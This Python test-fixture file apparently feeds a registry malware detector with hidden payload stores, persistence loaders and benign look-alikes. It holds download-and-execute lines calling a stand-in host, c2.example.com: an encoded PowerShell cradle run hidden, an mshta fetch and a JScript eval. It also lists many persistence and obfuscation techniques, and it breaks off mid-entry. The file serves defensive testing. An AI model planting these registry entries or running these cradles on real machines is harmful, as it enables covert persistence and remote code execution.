# ruff: noqa: E501 - a row of the tables is one line
"""Stores, loaders and look-alikes that nobody had in mind when the judge was written."""

from __future__ import annotations

import base64
import gzip
import json
import lzma
import random
import struct
import uuid
import zlib

from tests.content.payloads import pe, powershell, shellcode
from tests.registry.lines import encoded
from tests.registry.seeds import (
    BINARY,
    CLASSES_PATH,
    DWORD,
    EXPAND,
    MULTI,
    RUN,
    SOFTWARE_PATH,
    SYSTEM_PATH,
    USER_PATH,
    Plant,
    number,
    wide,
)
from tests.registry.startup_trees import cached

R = random.Random(77)
PE, SC, PS = pe(R), shellcode(R), powershell(R)
CV, NT, CCS = (
    "Microsoft\\Windows\\CurrentVersion",
    "Microsoft\\Windows NT\\CurrentVersion",
    "ControlSet001\\",
)
U, S, Y, C = USER_PATH, SOFTWARE_PATH, SYSTEM_PATH, CLASSES_PATH
ENC = encoded("IEX (New-Object Net.WebClient).DownloadString('http://c2.example.com/a')")
RB = R.randbytes
Case = tuple[str, list[Plant]]
STORES: dict[str, Case] = {}
LOADERS: dict[str, Case] = {}
BENIGN: dict[str, Case] = {}


def xor(data: bytes, key: bytes) -> bytes:
    return bytes(byte ^ key[at % len(key)] for at, byte in enumerate(data))


def rol(data: bytes, bits: int) -> bytes:
    return bytes((byte << bits | byte >> (8 - bits)) & 255 for byte in data)


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def chunks(data, size):  # type: ignore[no-untyped-def]
    return [data[at : at + size] for at in range(0, len(data), size)]


def st(name: str, *plants: Plant, path: str = U) -> None:
    STORES[name] = (path, list(plants))


def ld(name: str, path: str, *plants: Plant) -> None:
    LOADERS[name] = (path, list(plants))


def bn(name: str, path: str, *plants: Plant) -> None:
    BENIGN[name] = (path, list(plants))


JS = b'var sh = new ActiveXObject("WScript.Shell"); var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET","http://c2.example.com/a",false); x.send(); eval(x.responseText);'
st("rol13 xor random key pe", Plant("Software\\Acme\\Cache", "d", xor(PE, R.randbytes(7))))
st("b64 custom reversed", Plant("Software\\Vendor1", "cfg", b64(PE)[::-1]))
st("hex upper with dashes", Plant("Software\\Vendor2", "cfg", "-".join(f"{b:02X}" for b in SC)))
st(
    "decimal space separated in multi",
    Plant("Software\\Vendor3", "cfg", wide("\0".join(str(b) for b in SC)), MULTI),
)
st(
    "pe over sibling keys random names",
    *[Plant(f"Software\\Vx\\{R.randrange(1 << 32):08x}", "v", p, BINARY) for p in chunks(PE, 900)],
)
st(
    "b64 split over named values a..z",
    *[
        Plant("Software\\Vy", n, p)
        for n, p in zip(
            "abcdefghijklmnopqrstuvwxyz", chunks(b64(PE), (len(b64(PE)) + 25) // 26), strict=False
        )
    ],
)
st(
    "b64 in value names",
    *[Plant("Software\\Vz", f"{p}", "") for i, p in enumerate(chunks(b64(gzip.compress(PE)), 200))],
)
st("big data pe REG_NONE", Plant("Software\\V0", "v", PE + bytes(40000) + PE, 0))
st("REG_LINK payload", Plant("Software\\V1", "SymbolicLinkValue", PE, 6))
st("unknown type payload", Plant("Software\\V2", "v", xor(PE, b"K"), 0xDEAD))
st("class name b64", Plant("Software\\V3", "v", "x", key={"class_name": wide(b64(SC))}))
st("gzip b64 ps in REG_EXPAND", Plant("Software\\V4", "v", b64(gzip.compress(PS * 4)), EXPAND))
st("deflate raw", Plant("Software\\V5", "v", zlib.compress(PE, 9)[2:-4]))
st("lzma", Plant("Software\\V6", "v", lzma.compress(PE)))
st("xor wide text ps", Plant("Software\\V7", "v", xor(PS.decode().encode("utf-16-le"), b"\x5a")))
st(
    "script one line js",
    Plant(
        "Software\\V8",
        "v",
        'var s=new ActiveXObject("WScript.Shell");s.Run(s.RegRead("HKCU\\\\Software\\\\Z\\\\p"),0);',
    ),
)
st(
    "vbs in default value",
    Plant(
        "Software\\V9",
        "",
        'Set o=CreateObject("WScript.Shell"): o.Run "powershell -w hidden -enc ' + ENC + '",0',
    ),
)
st("shellcode in QWORD", Plant("Software\\Va", "v", SC, 11))
st("pe behind AppX json", Plant("Software\\Vd", "v", '{"a":1,"b":"' + b64(PE) + '"}'))
st(
    "pe in known place cloudstore",
    Plant(
        "Software\\" + CV + "\\CloudStore\\Store\\Cache\\DefaultAccount\\$x\\Current",
        "Data",
        xor(PE, b"\x13"),
    ),
)
st(
    "pe in BagMRU xored",
    Plant("Software\\Microsoft\\Windows\\Shell\\BagMRU", "0", xor(PE, b"\x77" * 1)),
)
st("hex ps string", Plant("Software\\Vg", "v", PS.hex()))
st("utf16 b64 double", Plant("Software\\Vh", "v", b64(b64(PE).encode("utf-16-le"))))
st(
    "environment variable payload",
    Plant(
        "Environment",
        "SystemCache",
        "powershell -nop -c IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
        + b64(PS)
        + "')))",
    ),
)
st(
    "uuid shellcode multi",
    Plant(
        "Software\\Vi",
        "v",
        wide("\0".join(str(uuid.UUID(bytes_le=c.ljust(16, b"\x90"))) for c in chunks(SC, 16))),
        MULTI,
    ),
)
st(
    "ip shellcode",
    Plant(
        "Software\\Vj",
        "v",
        ",".join(".".join(str(x) for x in c.ljust(4, b"\x90")) for c in chunks(SC, 4)),
    ),
)
st(
    "mac shellcode",
    Plant(
        "Software\\Vk",
        "v",
        " ".join("-".join(f"{x:02x}" for x in c.ljust(6, b"\x90")) for c in chunks(SC, 6)),
    ),
)
st(
    "numbered keys small hex",
    *[Plant(f"Software\\Vl\\{i:03d}", "d", p) for i, p in enumerate(chunks(SC.hex(), 64))],
)
st(
    "numbered values binary 100",
    *[Plant("Software\\Vm", f"{i}", p, BINARY) for i, p in enumerate(chunks(xor(PE, b"zzQ"), 100))],
)
st(
    "dotnet serialized",
    Plant(
        "Software\\Vo",
        "v",
        b64(b"\0\1\0\0\0\xff\xff\xff\xff\1\0\0\0\0\0\0\0\x0c\2\0\0\0ISystem, Version=4.0.0.0" + PE),
    ),
)
ld(
    "userinit",
    S,
    Plant(NT + "\\Winlogon", "Userinit", r"C:\Windows\system32\userinit.exe,C:\Users\Public\u.exe"),
)
ld(
    "userinitmprlogon",
    U,
    Plant("Environment", "UserInitMprLogonScript", r"C:\Users\bob\AppData\Roaming\l.bat"),
)
ld("appcert", Y, Plant(CCS + "Control\\Session Manager\\AppCertDlls", "x", r"C:\ProgramData\a.dll"))
ld("netsh", S, Plant("Microsoft\\NetSh", "helper", r"C:\Users\bob\h.dll"))
ld(
    "lsa notification",
    Y,
    Plant(CCS + "Control\\Lsa", "Notification Packages", wide("scecli\0evilfilter\0"), MULTI),
)
ld(
    "wer reflect",
    S,
    Plant(
        "Microsoft\\Windows\\Windows Error Reporting\\Hangs", "ReflectDebugger", r"C:\temp\a.exe -p"
    ),
)
ld("aedebug", S, Plant(NT + "\\AeDebug", "Debugger", r"C:\ProgramData\dbg.exe -p %ld -e %ld"))
ld(
    "winsock lsp",
    Y,
    Plant(
        CCS + "Services\\WinSock2\\Parameters\\NameSpace_Catalog5\\Catalog_Entries\\000000000009",
        "LibraryPath",
        r"C:\Users\bob\ns.dll",
    ),
)
ld(
    "terminal initialprogram",
    Y,
    Plant(
        CCS + "Control\\Terminal Server\\WinStations\\RDP-Tcp",
        "InitialProgram",
        r"C:\Windows\Temp\a.exe",
    ),
)
ld(
    "silent exit",
    S,
    Plant(NT + "\\SilentProcessExit\\lsass.exe", "MonitorProcess", r"C:\Windows\Temp\a.exe"),
)
ld(
    "office addin",
    U,
    Plant(
        "Software\\Microsoft\\Office\\Excel\\Addins\\Evil",
        "Manifest",
        r"file:///C:/Users/bob/AppData/Local/Temp/a.vsto|vstolocal",
    ),
)
ld(
    "office test",
    U,
    Plant("Software\\Microsoft\\Office test\\Special\\Perf", "", r"C:\Users\bob\p.dll"),
)
ld("dotnet startup hook", U, Plant("Environment", "DOTNET_STARTUP_HOOKS", r"C:\Users\bob\hook.dll"))
ld(
    "cor profiler",
    U,
    Plant("Environment", "COR_ENABLE_PROFILING", "1"),
    Plant("Environment", "COR_PROFILER_PATH", r"C:\Users\bob\AppData\p.dll"),
)
ld(
    "coreclr profiler",
    U,
    Plant("Environment", "CORECLR_ENABLE_PROFILING", "1"),
    Plant("Environment", "CORECLR_PROFILER_PATH", r"C:\Users\bob\p.dll"),
)
ld(
    "amsi provider",
    S,
    Plant("Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFF}", "", "evil"),
    Plant(
        "Classes\\CLSID\\{2781761E-28E0-4109-99FE-B9D127C57AFF}\\InprocServer32",
        "",
        r"C:\Users\bob\amsi.dll",
    ),
)
ld(
    "failure command",
    Y,
    Plant(CCS + "Services\\Spooler", "FailureCommand", r"cmd /c powershell -w hidden -enc " + ENC),
)
ld(
    "servicedll",
    Y,
    Plant(CCS + "Services\\Foo\\Parameters", "ServiceDll", r"C:\ProgramData\foo.dll", EXPAND),
)
ld(
    "bootexecute",
    Y,
    Plant(
        CCS + "Control\\Session Manager", "BootExecute", wide("autocheck autochk *\0evil\0"), MULTI
    ),
)
ld(
    "setupexecute",
    Y,
    Plant(CCS + "Control\\Session Manager", "SetupExecute", wide("evil.exe\0"), MULTI),
)
ld("knowndlls", Y, Plant(CCS + "Control\\Session Manager\\KnownDLLs", "wow", "evil.dll"))
ld(
    "ssodl",
    S,
    Plant(
        CV + "\\ShellServiceObjectDelayLoad", "WebCheck", "{AAAA1111-2222-3333-4444-555566667777}"
    ),
    Plant(
        "Classes\\CLSID\\{AAAA1111-2222-3333-4444-555566667777}\\InprocServer32",
        "",
        r"C:\Users\bob\a.dll",
    ),
)
ld(
    "bho",
    S,
    Plant(
        CV + "\\Explorer\\Browser Helper Objects\\{AAAA1111-2222-3333-4444-555566667777}", "", "x"
    ),
    Plant(
        "Classes\\CLSID\\{AAAA1111-2222-3333-4444-555566667777}\\InprocServer32",
        "",
        r"C:\Users\bob\a.dll",
    ),
)
ld(
    "protocol handler",
    C,
    Plant("ms-evil\\shell\\open\\command", "", "powershell -nop -w hidden -enc " + ENC),
)
ld(
    "com treatas user",
    C,
    Plant(
        "CLSID\\{AAAA1111-2222-3333-4444-555566667777}\\TreatAs",
        "",
        "{BBBB1111-2222-3333-4444-555566667777}",
    ),
    Plant(
        "CLSID\\{BBBB1111-2222-3333-4444-555566667777}\\InprocServer32",
        "",
        r"C:\Users\bob\AppData\Local\x.dll",
    ),
)
ld(
    "com localserver ps",
    C,
    Plant(
        "CLSID\\{AAAA1111-2222-3333-4444-555566667777}\\LocalServer32",
        "",
        r"powershell -w hidden -c IEX $env:abc",
    ),
)
ld(
    "com scriptlet",
    C,
    Plant(
        "CLSID\\{AAAA1111-2222-3333-4444-555566667777}\\ScriptletURL",
        "",
        "http://c2.example.com/a.sct",
    ),
)
ld(
    "com progid",
    C,
    Plant("Outlook.Application\\CLSID", "", "{AAAA1111-2222-3333-4444-555566667777}"),
    Plant(
        "CLSID\\{AAAA1111-2222-3333-4444-555566667777}\\InprocServer32",
        "",
        r"C:\Users\Public\o.dll",
    ),
)
ld(
    "taskcache actions cmd",
    S,
    *cached("Upd", r"C:\Windows\System32\cmd.exe", r"/c powershell -w hidden -enc " + ENC),
)
ld("run mshta", U, Plant(RUN, "x", "mshta http://c2.example.com/a.hta"))
ld(
    "run forfiles",
    U,
    Plant(
        RUN,
        "x",
        r'forfiles /p c:\windows\system32 /m notepad.exe /c "cmd /c reg query HKCU\Software\q /v w | more"',
    ),
)
ld(
    "run conhost",
    U,
    Plant(RUN, "x", r'conhost.exe --headless powershell -c "iex (irm c2.example.com/a)"'),
)
ld(
    "run env",
    U,
    Plant(RUN, "x", r"cmd /c %QQ%"),
    Plant("Environment", "QQ", "powershell -w hidden -enc " + ENC),
)
ld(
    "screensaver",
    U,
    Plant("Control Panel\\Desktop", "SCRNSAVE.EXE", r"C:\Users\bob\AppData\Local\Temp\a.scr"),
)
ld(
    "ifeo",
    S,
    Plant(NT + "\\Image File Execution Options\\notepad.exe", "Debugger", r"C:\ProgramData\a.exe"),
)
ld(
    "winlogon shell user",
    U,
    Plant(
        "Software\\" + NT + "\\Winlogon", "Shell", r"explorer.exe, rundll32 C:\Users\bob\a.dat,Run"
    ),
)
ld(
    "time provider",
    Y,
    Plant(CCS + "Services\\W32Time\\TimeProviders\\Evil", "DllName", r"C:\ProgramData\t.dll"),
)
ld(
    "security ssp",
    Y,
    Plant(CCS + "Control\\Lsa", "Security Packages", wide("kerberos\0msv1_0\0mimilib\0"), MULTI),
)
ld(
    "active setup",
    S,
    Plant(
        "Microsoft\\Active Setup\\Installed Components\\{AAAA1111-2222-3333-4444-555566667777}",
        "StubPath",
        r"rundll32 C:\ProgramData\a.dll,X",
    ),
)
ld(
    "command autorun",
    U,
    Plant("Software\\Microsoft\\Command Processor", "AutoRun", r"C:\Users\bob\AppData\a.bat"),
)
ld(
    "ms-settings",
    C,
    Plant("ms-settings\\shell\\open\\command", "DelegateExecute", ""),
    Plant("ms-settings\\shell\\open\\command", "", r"C:\Users\bob\a.exe"),
)
ld("exefile open", C, Plant("exefile\\shell\\open\\command", "", r'C:\Users\bob\a.exe "%1" %*'))
ld(
    "service imagepath",
    Y,
    Plant(
        CCS + "Services\\Zed",
        "ImagePath",
        r"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc " + ENC,
        EXPAND,
    ),
)
ld(
    "svc driver temp",
    Y,
    Plant(CCS + "Services\\Zed", "ImagePath", r"\??\C:\Users\bob\AppData\Local\Temp\z.sys", EXPAND),
)
ld(
    "accessibility AT",
    S,
    Plant(NT + "\\Accessibility\\ATs\\evil", "StartExe", r"C:\Users\bob\a.exe"),
)
ld(
    "network provider",
    Y,
    Plant(CCS + "Services\\Evil\\NetworkProvider", "ProviderPath", r"C:\ProgramData\np.dll"),
)
ld(
    "explorer policies run",
    U,
    Plant("Software\\" + CV + "\\Policies\\Explorer\\Run", "1", r"C:\Users\Public\x.exe"),
)
ld("runonceex", S, Plant(CV + "\\RunOnceEx\\001", "1", r"C:\ProgramData\x.dll|Run"))
ld(
    "appinit",
    S,
    Plant(NT + "\\Windows", "AppInit_DLLs", r"C:\ProgramData\x.dll"),
    Plant(NT + "\\Windows", "LoadAppInit_DLLs", number(1), DWORD),
)
ld(
    "telemetry controller",
    S,
    Plant(NT + "\\AppCompatFlags\\TelemetryController\\x", "Command", r"C:\ProgramData\x.exe"),
)
ld(
    "autodial",
    Y,
    Plant(CCS + "Services\\WinSock2\\Parameters", "AutodialDLL", r"C:\ProgramData\x.dll"),
)
ld("hkcu windir", U, Plant("Environment", "windir", r"cmd /c start calc & rem"))
st("b32", Plant("Software\\Q1", "v", base64.b32encode(PE).decode()))
st("b85", Plant("Software\\Q2", "v", base64.b85encode(PE).decode()))
st("a85", Plant("Software\\Q3", "v", base64.a85encode(PE).decode()))
st("hex 0x list", Plant("Software\\Q4", "v", ",".join(f"0x{b:02x}" for b in SC)))
st("\\x escapes", Plant("Software\\Q5", "v", "".join(f"\\x{b:02x}" for b in SC)))
st(
    "%u escapes",
    Plant(
        "Software\\Q6",
        "v",
        "".join("%u" + SC[i : i + 2].ljust(2, b"\x90")[::-1].hex() for i in range(0, len(SC), 2)),
    ),
)
st("rol3 pe", Plant("Software\\Q7", "v", rol(PE, 3)))
st("add key", Plant("Software\\Q8", "v", bytes((b + 0x37) & 255 for b in PE)))
st("not pe", Plant("Software\\Q9", "v", bytes(b ^ 255 for b in PE)))
st("b64 xor", Plant("Software\\Qa", "v", b64(xor(PE, b"\x21\x43"))))
st(
    "zlib b64 split 3 named odd",
    *[
        Plant("Software\\Qb", n, p)
        for n, p in zip(
            ("alpha", "beta", "gamma"),
            chunks(b64(zlib.compress(PE)), (len(b64(zlib.compress(PE))) + 2) // 3),
            strict=False,
        )
    ],
)
st("js plain binary type", Plant("Software\\Qc", "v", JS))
st("js xor", Plant("Software\\Qd", "v", xor(JS, b"\x09")))
st("js in multi lines", Plant("Software\\Qe", "v", wide("\0".join(JS.decode().split("; "))), MULTI))
st(
    "vbs wide in none",
    Plant(
        "Software\\Qf",
        "v",
        wide(
            'Execute(chr(67)&chr(114)): Set o=CreateObject("WScript.Shell"): o.Run o.RegRead("HKCU\\Software\\x\\y"),0'
        ),
        0,
    ),
)
st("pe with header stripped MZ", Plant("Software\\Qg", "v", b"\0\0" + PE[2:]))
st("pe reversed bytes", Plant("Software\\Qh", "v", PE[::-1]))
st("pe behind 64 zero bytes", Plant("Software\\Qi", "v", bytes(64) + PE))
st(
    "shellcode behind 500 zero + struct",
    Plant("Software\\Qj", "v", struct.pack("<IIII", 1, 2, 3, len(SC)) + bytes(500) + SC),
)
st(
    "class names of many keys",
    *[
        Plant(f"Software\\Ql\\k{i}", "v", "x", key={"class_name": wide(p)})
        for i, p in enumerate(chunks(b64(PE), 120)[:30])
    ],
)
st(
    "key names encoded",
    *[
        Plant(f"Software\\Qm\\{p}", "v", "x")
        for p in chunks(b64(gzip.compress(PE)).replace("/", "_"), 180)
    ],
)
st("value names hex long", *[Plant("Software\\Qn", p, "") for p in chunks(PE.hex(), 250)[:10]])
st(
    "data in dwords",
    *[
        Plant("Software\\Qo", f"{i}", SC[i * 4 : i * 4 + 4].ljust(4, b"\0"), DWORD)
        for i in range(len(SC) // 4)
    ],
)
st(
    "data in qwords",
    *[
        Plant("Software\\Qp", f"{i:03}", SC[i * 8 : i * 8 + 8].ljust(8, b"\0"), 11)
        for i in range(len(SC) // 8)
    ],
)
st("b64 with noise", Plant("Software\\Qs", "v", "###" + "#".join(chunks(b64(PE), 76)) + "###"))
st(
    "in wallpapers place",
    Plant("Software\\" + CV + "\\Explorer\\Wallpapers\\Images", "ID7", b64(PE)),
)
st(
    "in userassist",
    Plant(
        "Software\\" + CV + "\\Explorer\\UserAssist\\{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}\\Count",
        "abc",
        xor(SC * 3, b"\x44"),
    ),
)
st(
    "in appcompatcache",
    Plant(
        CCS + "Control\\Session Manager\\AppCompatCache",
        "AppCompatCache",
        b"10ts" + bytes(44) + xor(PE, b"\x5c"),
    ),
    path=Y,
)
st(
    "in productpolicy",
    Plant(CCS + "Control\\ProductOptions", "ProductPolicy", bytes(100) + PE),
    path=Y,
)
st(
    "ps in svc description",
    Plant(CCS + "Services\\Foo", "Description", "powershell -nop -w hidden -enc " + ENC),
    path=Y,
)
st("sam extra blob", Plant("SAM\\Domains\\Account\\Users\\000001F4", "Payload", PE), path=U)
bn(
    "onedrive run",
    U,
    Plant(
        RUN, "OneDrive", r'"C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background'
    ),
)
bn(
    "teams run",
    U,
    Plant(
        RUN,
        "com.squirrel.Teams.Teams",
        r'C:\Users\bob\AppData\Local\Microsoft\Teams\Update.exe --processStart "Teams.exe" --process-start-args "--system-initiated"',
    ),
)
bn(
    "discord/spotify/steam",
    U,
    Plant(
        RUN, "Discord", r"C:\Users\bob\AppData\Local\Discord\Update.exe --processStart Discord.exe"
    ),
    Plant(RUN, "Steam", r'"C:\Program Files (x86)\Steam\steam.exe" -silent'),
    Plant(
        RUN, "Spotify", r"C:\Users\bob\AppData\Roaming\Spotify\Spotify.exe --autostart --minimized"
    ),
)
bn(
    "edge autolaunch",
    U,
    Plant(
        RUN,
        "MicrosoftEdgeAutoLaunch_1B2C",
        r'"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --no-startup-window --win-session-start /prefetch:5',
    ),
)
bn(
    "sihost securityhealth",
    S,
    Plant(CV + "\\Run", "SecurityHealth", r"%windir%\system32\SecurityHealthSystray.exe", EXPAND),
    Plant(
        CV + "\\Run",
        "RtkAudUService",
        r'"C:\Windows\System32\DriverStore\FileRepository\realtekservice.inf_amd64\RtkAudUService64.exe" -background',
    ),
)
bn(
    "vs telemetry b64",
    U,
    Plant(
        "Software\\Microsoft\\VisualStudio\\RemoteSettings\\x",
        "a",
        b64(json.dumps({"k": [1, 2, 3] * 100}).encode()),
    ),
)
bn(
    "jwt token",
    U,
    Plant(
        "Software\\Vendor\\App",
        "token",
        b64(b'{"alg":"RS256"}') + "." + b64(b'{"sub":"1","exp":1700000000}') + "." + b64(RB(256)),
    ),
)
bn(
    "pubkey pem",
    U,
    Plant(
        "Software\\Vendor\\App",
        "key",
        "-----BEGIN PUBLIC KEY-----\n"
        + "\n".join(chunks(b64(RB(294)), 64))
        + "\n-----END PUBLIC KEY-----",
    ),
)
bn(
    "putty sessions",
    U,
    *[
        Plant(
            "Software\\SimonTatham\\PuTTY\\SshHostKeys",
            f"ssh-ed25519@22:host{i}.example.com",
            "0x" + RB(32).hex() + ",0x" + RB(32).hex(),
        )
        for i in range(12)
    ],
)
bn(
    "rsa hostkey",
    U,
    Plant("Software\\SimonTatham\\PuTTY\\SshHostKeys", "rsa2@22:h", "0x10001,0x" + RB(256).hex()),
)
bn(
    "chrome prefs macs",
    U,
    *[
        Plant(
            "Software\\Google\\Chrome\\PreferenceMACs\\Default", f"pref.{i}", RB(32).hex().upper()
        )
        for i in range(23)
    ],
)
bn("licence blob", S, Plant("Vendor\\Licence", "Data", b64(RB(180))))
bn(
    "guid list",
    S,
    Plant(
        "Vendor\\Features",
        "List",
        wide(
            "\0".join(
                "{" + str(uuid.UUID(bytes=RB(16), version=4)).upper() + "}" for _ in range(40)
            )
            + "\0"
        ),
        MULTI,
    ),
)
bn(
    "mac list",
    Y,
    Plant(
        CCS + "Services\\NetBT\\x",
        "macs",
        wide("\0".join("-".join(f"{b:02X}" for b in RB(6)) for _ in range(30))),
        MULTI,
    ),
)
bn(
    "ip list",
    Y,
    Plant(
        CCS + "Services\\Dnscache\\x",
        "servers",
        ",".join(".".join(str(b) for b in RB(4)) for _ in range(40)),
    ),
)
bn(
    "sddl",
    Y,
    Plant(
        CCS + "Services\\X\\y",
        "sd",
        "D:P(A;;GA;;;BA)(A;;GA;;;SY)(A;;GRGWGX;;;LS)(A;;GRGWGX;;;S-1-5-80-3316959809-2577409367-488518535-1805171532-1438653141)"
        * 4,
    ),
)
bn(
    "firewall rules",
    Y,
    *[
        Plant(
            CCS + "Services\\SharedAccess\\Parameters\\FirewallPolicy\\FirewallRules",
            f"r{i}",
            f"v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|LPort={i}|App=C:\\Program Files\\V{i}\\powershell_helper.exe|Name=Rule {i}|Desc=function (x) allowed|",
        )
        for i in range(40)
    ],
)
bn(
    "fonts list",
    S,
    *[Plant(NT + "\\Fonts", f"Font {i} (TrueType)", f"font{i}.ttf") for i in range(60)],
)
bn(
    "window pos numbers",
    U,
    *[
        Plant("Software\\Vendor\\UI", f"pos{i}", ",".join(str(x % 2000) for x in RB(40)))
        for i in range(20)
    ],
)
bn(
    "column widths decimal",
    U,
    Plant("Software\\Vendor\\UI2", "cols", " ".join(str(x) for x in RB(60))),
)
bn(
    "numbered binary mru",
    U,
    *[
        Plant(
            "Software\\Vendor\\Recent",
            str(i),
            wide(f"C:\\Users\\bob\\Documents\\report {i}.docx").ljust(520, b"\0"),
            BINARY,
        )
        for i in range(12)
    ],
)
bn(
    "numbered float records",
    U,
    *[
        Plant(
            "Software\\Vendor\\Tools",
            f"Tool{i}",
            struct.pack("<12f", *[x / 7 for x in RB(12)]),
            BINARY,
        )
        for i in range(20)
    ],
)
bn("sha1 file list", S, *[Plant("Vendor\\Files", f"f{i}", RB(20).hex()) for i in range(30)])
bn("sha1 numbered", S, *[Plant("Vendor\\Hashes", f"{i}", RB(20), BINARY) for i in range(30)])
bn("guid binary numbered", S, *[Plant("Vendor\\Ids", f"{i}", RB(16), BINARY) for i in range(30)])
bn("certs numbered", S, *[Plant("Vendor\\Keys", f"{i}", RB(64), BINARY) for i in range(10)])
bn(
    "powershell logging policy",
    S,
    Plant(
        "Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging",
        "EnableScriptBlockLogging",
        number(1),
        DWORD,
    ),
    Plant(
        "Microsoft\\PowerShell\\1\\ShellIds\\Microsoft.PowerShell",
        "ExecutionPolicy",
        "RemoteSigned",
    ),
    Plant(
        "Microsoft\\PowerShell\\1\\ShellIds\\Microsoft.PowerShell",
        "Path",
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    ),
)
bn(
    "regex settings",
    U,
    Plant(
        "Software\\Vendor\\Log",
        "pattern",
        r"(?<time>\d{2}:\d{2}:\d{2})\s+\[(?<lvl>[A-Z]+)\]\s+(?<msg>.*)$|^\s*at\s+[\w.$]+\(.*\)",
    ),
)
bn(
    "office addin",
    U,
    Plant(
        "Software\\Microsoft\\Office\\Outlook\\Addins\\Zoom",
        "Manifest",
        r"file:///C:/Program Files (x86)/Zoom/ZoomOutlook/Zoom.vsto|vstolocal",
    ),
)
bn(
    "user office addin clickonce",
    U,
    Plant(
        "Software\\Microsoft\\Office\\Excel\\Addins\\Acme",
        "Manifest",
        r"file:///C:/Users/bob/AppData/Local/Acme/ExcelAddin/Acme.vsto|vstolocal",
    ),
)
bn(
    "com per user onedrive",
    C,
    Plant(
        "CLSID\\{CB3D0F55-BC2C-4C1A-85ED-23ED75B5106B}\\InprocServer32",
        "",
        r"C:\Users\bob\AppData\Local\Microsoft\OneDrive\23.1\FileSyncShell64.dll",
    ),
    Plant(
        "CLSID\\{A0396A93-DC06-4AEF-BEE9-95FFCCAEF20E}\\LocalServer32",
        "",
        r'"C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDrive.exe"',
    ),
)
bn(
    "protocol vscode",
    C,
    Plant(
        "vscode\\shell\\open\\command",
        "",
        r'"C:\Users\bob\AppData\Local\Programs\Microsoft VS Code\Code.exe" "--open-url" "--" "%1"',
    ),
)
bn(
    "git bash here",
    S,
    Plant(
        "Classes\\Directory\\shell\\git_shell\\command",
        "",
        r'"C:\Program Files\Git\git-bash.exe" "--cd=%v."',
    ),
    Plant(
        "Classes\\Directory\\Background\\shell\\Powershell\\command",
        "",
        r'powershell.exe -noexit -command Set-Location -literalPath "%V"',
    ),
)
bn(
    "printer",
    Y,
    Plant(CCS + "Control\\Print\\Monitors\\HP Universal Port Monitor", "Driver", "hpmon082.dll"),
    Plant(
        CCS + "Control\\Print\\Environments\\Windows x64\\Print Processors\\hpcpp250",
        "Driver",
        "hpcpp250.dll",
    ),
)
bn(
    "vmware svc",
    Y,
    Plant(
        CCS + "Services\\VMTools",
        "ImagePath",
        r'"C:\Program Files\VMware\VMware Tools\vmtoolsd.exe"',
        EXPAND,
    ),
    Plant(CCS + "Services\\vsock", "ImagePath", r"\SystemRoot\system32\DRIVERS\vsock.sys", EXPAND),
)
bn(
    "defender svc",
    Y,
    Plant(
        CCS + "Services\\WinDefend",
        "ImagePath",
        r'"C:\ProgramData\Microsoft\Windows Defender\platform\4.18.2001.10-0\MsMpEng.exe"',
        EXPAND,
    ),
    Plant(
        CCS + "Services\\MpKslDrv",
        "ImagePath",
        r"\??\C:\ProgramData\Microsoft\Windows Defender\Definition Updates\{AAAA1111-2222-3333-4444-555566667777}\MpKslDrv.sys",
        EXPAND,
    ),
)
bn(
    "lsa defaults",
    Y,
    Plant(CCS + "Control\\Lsa", "Security Packages", wide('""\0'), MULTI),
    Plant(CCS + "Control\\Lsa", "Notification Packages", wide("scecli\0rassfm\0"), MULTI),
    Plant(CCS + "Control\\Session Manager", "BootExecute", wide("autocheck autochk *\0"), MULTI),
)
bn(
    "winlogon defaults",
    S,
    Plant(NT + "\\Winlogon", "Shell", "explorer.exe"),
    Plant(NT + "\\Winlogon", "Userinit", "C:\\Windows\\system32\\userinit.exe,"),
    Plant(NT + "\\Windows", "AppInit_DLLs", ""),
)
bn(
    "knowndlls defaults",
    Y,
    *[
        Plant(CCS + "Control\\Session Manager\\KnownDLLs", n, n + ".dll")
        for n in (
            "advapi32",
            "gdi32",
            "kernel32",
            "ole32",
            "shell32",
            "user32",
            "wow64",
            "combase",
            "wowarmhw",
            "clbcatq",
            "xtajit",
            "_wow64cpu",
            "gdiplus",
            "IMAGEHLP",
            "coml2",
        )
    ],
    Plant(
        CCS + "Control\\Session Manager\\KnownDLLs",
        "DllDirectory",
        r"%SystemRoot%\system32",
        EXPAND,
    ),
)
bn(
    "env user",
    U,
    Plant(
        "Environment",
        "Path",
        r"C:\Users\bob\AppData\Local\Microsoft\WindowsApps;C:\Users\bob\.cargo\bin;",
    ),
    Plant("Environment", "JAVA_HOME", r"C:\Program Files\Java\jdk-17"),
    Plant("Environment", "NODE_OPTIONS", "--max-old-space-size=4096"),
    Plant("Environment", "GITHUB_TOKEN", "ghp_" + b64(RB(27))),
)
bn(
    "sticky notes rtf",
    U,
    Plant(
        "Software\\Vendor\\Notes",
        "n1",
        r"{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\fnil Segoe UI;}}\pard\f0\fs22 Buy milk and eggs\par remember to call Bob\par}"
        * 6,
    ),
)
bn(
    "base64 png",
    U,
    Plant(
        "Software\\Vendor\\Icon",
        "png",
        b64(
            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10\x08\6\0\0\0\x1f\xf3\xffa"
            b"\0\0\1\0IDAT" + zlib.compress(RB(200)) + b"\0\0\0\0IEND\xaeB`\x82"
        ),
    ),
)
bn(
    "xml profile",
    S,
    Plant(
        "Vendor\\Profile",
        "xml",
        '<?xml version="1.0"?><root>'
        + "".join(f'<item id="{i}" name="value {i}"/>' for i in range(300))
        + "</root>",
    ),
)
bn(
    "nvidia blobs",
    Y,
    Plant(
        CCS + "Control\\Class\\{4d36e968-e325-11ce-bfc1-08002be10318}\\0000",
        "RmProfilingData",
        RB(3000),
    ),
)
bn(
    "wifi eap",
    U,
    Plant(
        "Software\\Microsoft\\Wlansvc\\UserData\\Profiles\\{AAAA}",
        "EapUserData",
